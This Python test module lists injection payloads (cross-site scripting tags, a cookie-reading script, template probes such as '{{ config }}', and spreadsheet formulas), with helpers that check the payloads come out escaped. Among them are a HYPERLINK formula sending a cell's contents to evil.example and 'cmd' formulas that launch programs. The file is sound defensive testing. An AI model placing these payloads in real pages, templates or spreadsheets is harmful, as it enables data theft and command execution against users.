"""Hostile text: script and markup injection, template injection (Jinja, others) and
spreadsheet formulas. Each payload is entered where people type text, then looked for
wherever that text comes out."""

import html

from markupsafe import escape  # as Jinja escapes

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(document.cookie)</script>",
    "<iframe src=//evil.example></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style>",
]
TEMPLATE = ["{{7*7}}", "{{ config }}", "{% print(7*7) %}", "${7*7}", "#{7*7}", "<%= 7*7 %>"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
ALL = XSS + TEMPLATE + FORMULAS


def never_markup(payload: str, text: str) -> bool:
    """No markup of the payload reaches the page or message as markup."""
    return not any(char in payload for char in "<>\"'") or payload not in text


def shown_as_text(payload: str, text: str) -> bool:
    """Where the field is shown: as typed (escaped as HTML wants), never evaluated."""
    return never_markup(payload, text) and (
        str(escape(payload)) in text or html.escape(payload, quote=False) in text
        or payload in text)
